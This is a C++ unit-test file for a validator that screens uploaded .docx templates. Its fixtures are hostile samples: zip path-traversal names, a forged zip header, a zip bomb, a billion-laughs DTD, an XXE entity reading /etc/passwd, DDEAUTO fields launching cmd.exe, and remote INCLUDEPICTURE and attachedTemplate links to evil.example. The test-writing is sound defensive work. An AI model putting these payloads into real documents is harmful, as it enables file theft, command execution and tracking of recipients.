//! check_package: what an uploaded .docx must pass before it is stored — size, zip bombs, entry
//! count, unsafe entry names, parts a DOCX may not hold, DTDs and entities, external links.
#include <gtest/gtest.h>

#include "template_fixtures.hpp"

namespace vanthu::test {
namespace {

std::vector<std::string> codes(const std::vector<TemplateIssue>& issues) {
  std::vector<std::string> out;
  for (const auto& issue : issues) out.push_back(issue.code);
  return out;
}

//! A zip holding exactly `entries` (name, content), deflated.
std::string zip_of(const std::vector<std::pair<std::string, std::string>>& entries, int level = 6) {
  std::string out;
  ZipWriter writer(out);
  for (const auto& [name, content] : entries) writer.add(name, content, level);
  writer.finish();
  return out;
}

//! The bytes of a zip with one stored entry whose name is written as given (bypassing ZipWriter's
//! own checks), for names a hostile archive would use.
std::string zip_with_raw_name(const std::string& name) {
  std::string docx = zip_of({{"[Content_Types].xml", content_types_xml()}, {"_rels/.rels", package_rels_xml()},
                             {"word/document.xml", document_xml(para("x"))}, {std::string(name.size(), 'A'), "evil"}});
  // Replace the placeholder name in the local header and the central directory.
  std::string placeholder(name.size(), 'A');
  for (std::size_t at = docx.find(placeholder); at != std::string::npos; at = docx.find(placeholder, at + name.size()))
    docx.replace(at, name.size(), name);
  return docx;
}

TEST(TemplatePackage, AGoodPackagePasses) {
  EXPECT_TRUE(check_package(make_docx(para("{a}"))).empty());
  std::string with_media = make_docx(para("x"), {{"word/media/image1.png", "\x89PNG...."},
                                                 {"docProps/core.xml", "<cp:coreProperties xmlns:cp=\"x\"/>"},
                                                 {"word/theme/theme1.xml", "<a:theme xmlns:a=\"x\"/>"},
                                                 {"customXml/item1.xml", "<b/>"}});
  EXPECT_TRUE(check_package(with_media).empty()) << check_package(with_media)[0].message;
}

TEST(TemplatePackage, TooLarge) {
  PackageLimits limits;
  limits.max_size = 100;
  EXPECT_EQ(codes(check_package(make_docx(para("x")), limits)), std::vector<std::string>{"too_large"});
}

TEST(TemplatePackage, ZipBombIsRefused) {
  std::string bomb = make_docx(para("x"), {{"word/media/bomb.png", std::string(8u << 20, '\0')}});
  auto issues = check_package(bomb);
  ASSERT_FALSE(issues.empty());
  EXPECT_EQ(issues[0].code, "zip_bomb") << issues[0].message;
  EXPECT_NE(issues[0].message.find("bom zip"), std::string::npos);
  TemplateCheck check = check_template(bomb);
  EXPECT_EQ(codes(check.issues), std::vector<std::string>{"zip_bomb"}) << "nothing more is read from it";
}

TEST(TemplatePackage, TooManyEntries) {
  std::vector<std::pair<std::string, std::string>> extra;
  for (int i = 0; i < 20; ++i) extra.emplace_back("word/media/image" + std::to_string(i) + ".png", "x");
  PackageLimits limits;
  limits.zip.max_entries = 10;
  auto issues = check_package(make_docx(para("x"), extra), limits);
  ASSERT_EQ(codes(issues), std::vector<std::string>{"too_many_entries"});
  EXPECT_NE(issues[0].message.find("23"), std::string::npos) << issues[0].message;
}

TEST(TemplatePackage, PathTraversalInEntryNames) {
  for (const std::string name : {"../../etc/cron.d/x", "/etc/passwd", "word\\..\\x.xml", "word/../../x.xml"}) {
    auto issues = check_package(zip_with_raw_name(name));
    ASSERT_EQ(codes(issues), std::vector<std::string>{"unsafe_name"}) << name;
    EXPECT_NE(issues[0].message.find("không an toàn"), std::string::npos) << issues[0].message;
  }
}

TEST(TemplatePackage, AForgedZipIsRefusedAsTampered) {
  // The local header of word/document.xml names another part than the central directory does:
  // Word reads one document.xml, a streaming reader (a mail gateway's scanner) another.
  std::string docx = make_docx(para("x"));
  std::string forged = docx;
  forged.replace(forged.find("word/document.xml"), 17, "word/documenx.xml");  // the first one is the local header
  auto issues = check_package(forged);
  ASSERT_EQ(codes(issues), std::vector<std::string>{"zip_header_mismatch"});
  EXPECT_EQ(issues[0].message.rfind("Tệp mẫu bị sửa đổi bất thường", 0), 0u) << issues[0].message;
  EXPECT_NE(issues[0].message.find("word/documenx.xml"), std::string::npos) << issues[0].message;
  EXPECT_EQ(codes(check_template(forged).issues), std::vector<std::string>{"zip_header_mismatch"});

  // Bytes smuggled in after the archive's end record (a second archive, a script).
  auto trailing = check_package(docx + "<script>alert(1)</script>");
  ASSERT_EQ(codes(trailing), std::vector<std::string>{"zip_hidden_data"});
  EXPECT_EQ(trailing[0].message.rfind("Tệp mẫu bị sửa đổi bất thường", 0), 0u) << trailing[0].message;
}

TEST(TemplatePackage, OnlyPartsADocxMayHold) {
  std::string docx = make_docx(para("x"), {{"word/vbaProject.bin", "macro"},
                                           {"payload.exe", "MZ"},
                                           {"word/embeddings/oleObject1.bin", "ole"},
                                           {"word/activeX/activeX1.xml", "<x/>"},
                                           {"notes.txt", "hello"},
                                           {"word/media/script.js", "alert(1)"}});
  auto issues = check_package(docx);
  EXPECT_EQ(codes(issues),
            (std::vector<std::string>{"macro", "macro", "macro", "macro", "part_not_allowed", "part_not_allowed"}));
  EXPECT_EQ(issues[4].part, "notes.txt");
}

TEST(TemplatePackage, MacroEnabledContentType) {
  std::string types = std::string(content_types_xml());
  types.replace(types.find("wordprocessingml.document.main+xml"), 34, "ms-word.document.macroEnabled.main+xml");
  std::string docx = zip_of({{"[Content_Types].xml", types}, {"_rels/.rels", package_rels_xml()},
                             {"word/document.xml", document_xml(para("x"))}});
  EXPECT_EQ(codes(check_package(docx)), std::vector<std::string>{"macro"});
}

TEST(TemplatePackage, DtdAndEntitiesInAnyXmlPart) {
  std::string billion_laughs =
      "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]>"
      "<Properties>&lol2;</Properties>";
  std::string xxe = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>";
  std::string docx = make_docx(para("x"), {{"docProps/app.xml", billion_laughs}, {"word/settings.xml", xxe},
                                           {"word/styles.xml", "<w:styles"}});
  auto issues = check_package(docx);
  EXPECT_EQ(codes(issues), (std::vector<std::string>{"dtd", "dtd", "xml"}));
  EXPECT_EQ(issues[0].part, "docProps/app.xml");
  EXPECT_EQ(issues[2].part, "word/styles.xml");
}

TEST(TemplatePackage, ExternalRelationshipsAndHyperlinksAreRefused) {
  std::string rels =
      R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://chinhphu.vn.example/dang-nhap" TargetMode="External"/>)"
      R"(<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>)"
      R"(<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="\\attacker\share\a.png" TargetMode="External"/>)"
      R"(<Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>)"
      R"(</Relationships>)";
  auto issues = check_package(make_docx(para("x"), {{"word/_rels/document.xml.rels", rels}}));
  ASSERT_EQ(codes(issues), (std::vector<std::string>{"external_link", "external_relationship", "external_relationship"}));
  EXPECT_EQ(issues[0].part, "word/document.xml") << "the part holding the link, not its .rels";
  EXPECT_NE(issues[0].message.find("Phần word/document.xml"), std::string::npos) << issues[0].message;
  EXPECT_NE(issues[0].message.find("“https://chinhphu.vn.example/dang-nhap”"), std::string::npos) << issues[0].message;
  EXPECT_NE(issues[1].message.find("evil.example"), std::string::npos);
}

TEST(TemplatePackage, ALinkIsRefusedWhateverItsTargetModeSaysAndItsTargetIsShortened) {
  const std::string url = "https://xn--chnhph-7va.example/" + std::string(300, 'a');
  std::string rels =
      R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target=")" +
      url + R"("/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="mailto:vanthu@example.vn"/>)"
      R"(</Relationships>)";
  auto issues = check_package(make_docx(para("x"), {{"word/_rels/footer1.xml.rels", rels}, {"word/footer1.xml", header_xml("ftr", "")}}));
  ASSERT_EQ(codes(issues), (std::vector<std::string>{"external_link", "external_link"}));
  EXPECT_EQ(issues[0].part, "word/footer1.xml");
  EXPECT_NE(issues[0].message.find(url.substr(0, 150)), std::string::npos);
  EXPECT_EQ(issues[0].message.find(url), std::string::npos) << "shortened";
  EXPECT_NE(issues[0].message.find("…"), std::string::npos);
}

TEST(TemplatePackage, ALinkToAPlaceInTheDocumentIsFine) {
  std::string body = "<w:p><w:bookmarkStart w:id=\"0\" w:name=\"phu_luc\"/><w:r><w:t>Phụ lục</w:t></w:r><w:bookmarkEnd w:id=\"0\"/></w:p>"
                     "<w:p><w:hyperlink w:anchor=\"phu_luc\" w:history=\"1\"><w:r><w:t>{xem}</w:t></w:r></w:hyperlink></w:p>";
  EXPECT_EQ(codes(check_package(make_docx(body))), std::vector<std::string>{});
}

//! A paragraph holding a complex field: `instructions` as w:instrText runs, then its result.
std::string complex_field(const std::vector<std::string>& instructions, const std::string& result = "kết quả") {
  std::string xml = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
  for (const auto& piece : instructions) xml += "<w:r><w:instrText xml:space=\"preserve\">" + piece + "</w:instrText></w:r>";
  return xml + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>" + result +
         "</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
}

std::string simple_field(const std::string& instruction) {
  return "<w:p><w:fldSimple w:instr=\"" + instruction + "\"><w:r><w:t>kết quả</w:t></w:r></w:fldSimple></w:p>";
}

TEST(TemplatePackage, RemoteFieldCodesAreRefused) {
  const std::vector<std::string> bodies = {
      complex_field({" INCLUDEPICTURE  &quot;http://evil.example/pixel.png&quot; \\d \\* MERGEFORMATINET "}),
      complex_field({" INCLUDE", "PICTURE &quot;http://evil.example/a.png&quot; "}),  // split as Word splits runs
      complex_field({" includetext &quot;\\\\\\\\server\\\\share\\\\a.docx&quot; "}),
      complex_field({"INCLUDE &quot;C:\\\\a.docx&quot;"}),
      complex_field({" LINK Excel.Sheet.12 &quot;https://evil.example/b.xlsx&quot; &quot;Sheet1!R1C1&quot; \\a \\p "}),
      complex_field({" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; "}),
      complex_field({" DDE excel &quot;x&quot; "}),
      complex_field({" IMPORT &quot;http://evil.example/c.wmf&quot; "}),
      complex_field({" DATABASE \\d &quot;http://evil.example/db.mdb&quot; \\s &quot;select *&quot; "}),
      simple_field(" INCLUDEPICTURE &quot;http://evil.example/pixel.png&quot; \\d "),
      // A deleted (tracked) instruction comes back when the deletion is rejected.
      "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:del w:id=\"1\" w:author=\"A\"><w:r><w:delInstrText>"
      " INCLUDEPICTURE &quot;http://evil.example/p.png&quot; </w:delInstrText></w:r></w:del>"
      "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
      // A field whose name another field gives: { {QUOTE "INCLUDEPICTURE"} "http://…" }.
      "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + complex_field({" QUOTE &quot;INCLUDEPICTURE&quot; "}).substr(5, std::string::npos) +
          "<w:p><w:r><w:instrText> &quot;http://evil.example/x.png&quot; </w:instrText></w:r>"
          "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
  };
  for (const auto& body : bodies) {
    SCOPED_TRACE(body);
    auto issues = check_package(make_docx(para("{a}") + body));
    ASSERT_EQ(codes(issues), std::vector<std::string>{"remote_field"});
    EXPECT_EQ(issues[0].part, "word/document.xml");
    EXPECT_NE(issues[0].message.find("Phần word/document.xml"), std::string::npos) << issues[0].message;
  }
  auto issues = check_package(make_docx(para("x"), {{"word/header1.xml", header_xml("hdr", bodies[0])}}));
  ASSERT_EQ(codes(issues), std::vector<std::string>{"remote_field"});
  EXPECT_EQ(issues[0].part, "word/header1.xml");
  EXPECT_NE(issues[0].message.find("INCLUDEPICTURE (“INCLUDEPICTURE  \"http://evil.example/pixel.png\""), std::string::npos)
      << issues[0].message;
}

TEST(TemplatePackage, HyperlinkFieldsAreRefusedButThoseToABookmark) {
  for (const std::string& body :
       {complex_field({" HYPERLINK &quot;https://chinhphu.vn.example/&quot; "}), simple_field(" HYPERLINK &quot;mailto:a@b.vn&quot; "),
        complex_field({" HYPERLINK \\o &quot;Mở&quot; &quot;file:///C:/a.docx&quot; "}),
        complex_field({" HYPERLINK \\l &quot;x&quot; &quot;https://evil.example&quot; "})}) {
    SCOPED_TRACE(body);
    auto issues = check_package(make_docx(body));
    ASSERT_EQ(codes(issues), std::vector<std::string>{"external_link"});
    EXPECT_EQ(issues[0].part, "word/document.xml");
  }
  // A table of contents: HYPERLINK \l fields to the headings' bookmarks, inside the TOC's result.
  std::string toc = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> TOC \\o &quot;1-3&quot; \\h \\z \\u </w:instrText></w:r>"
                    "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r></w:p>" +
                    complex_field({" HYPERLINK \\l &quot;_Toc1&quot; \\h "}, "I. Kết quả") + "<w:p><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
  EXPECT_EQ(codes(check_package(make_docx(toc))), std::vector<std::string>{});
}

TEST(TemplatePackage, OrdinaryFieldsAreFine) {
  std::string body = complex_field({" PAGE "}) + simple_field(" NUMPAGES \\* MERGEFORMAT ") + complex_field({" MERGEFIELD {ten} "}) +
                     complex_field({" DATE \\@ &quot;dd/MM/yyyy&quot; "}) + complex_field({" REF _Ref1 \\h "}) +
                     complex_field({" LINKED_NAME "}) + simple_field(" SEQ Bảng \\* ARABIC ");
  EXPECT_EQ(codes(check_package(make_docx(body))), std::vector<std::string>{});
}

TEST(TemplatePackage, SkeletonPartsMustBeThere) {
  std::string docx = zip_of({{"word/document.xml", document_xml(para("x"))}});
  EXPECT_EQ(codes(check_package(docx)), (std::vector<std::string>{"missing_part", "missing_part"}));
  EXPECT_EQ(codes(check_package(zip_of({{"[Content_Types].xml", content_types_xml()}, {"_rels/.rels", package_rels_xml()}}))),
            std::vector<std::string>{"not_docx"});
  EXPECT_EQ(codes(check_package("not a zip at all")), std::vector<std::string>{"zip"});
}

TEST(TemplatePackage, CheckTemplateReportsPackageAndTagIssuesTogether) {
  std::string docx = make_docx(para("{#a}"), {{"notes.txt", "x"}});
  TemplateCheck check = check_template(docx);
  EXPECT_EQ(codes(check.issues), (std::vector<std::string>{"part_not_allowed", "unclosed_section"}));
  EXPECT_FALSE(check.parsed);
}

TEST(TemplatePackage, XmlIssueOfATemplatedPartIsReportedOnce) {
  std::string docx = make_package("<w:document xmlns:w=\"x\"><w:body>");
  auto issues = check_template(docx).issues;
  EXPECT_EQ(codes(issues), std::vector<std::string>{"xml"});
}


TEST(TemplatePackage, TheMainPartIsWherePackageRelationshipsSay) {
  const std::string rels =
      R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="/word/document2.xml"/></Relationships>)";
  std::string docx = zip_of({{"[Content_Types].xml", content_types_xml()}, {"_rels/.rels", rels},
                             {"word/document2.xml", document_xml(para("Kính gửi {ten}"))}});
  EXPECT_EQ(codes(check_package(docx)), std::vector<std::string>{});
  auto tpl = Template::parse(docx);
  EXPECT_EQ(tpl->templated_parts(), std::vector<std::string>{"word/document2.xml"});
  EXPECT_EQ(docx_text(docx_part(render(*tpl, {{"ten", "bà A"}}).docx, "word/document2.xml")), "Kính gửi bà A\n");
  std::string dangling = zip_of({{"[Content_Types].xml", content_types_xml()}, {"_rels/.rels", rels},
                                 {"word/document.xml", document_xml(para("x"))}});
  auto issues = check_package(dangling);
  ASSERT_EQ(codes(issues), std::vector<std::string>{"not_docx"});
  EXPECT_EQ(issues[0].part, "_rels/.rels");
}

}  // namespace
}  // namespace vanthu::test
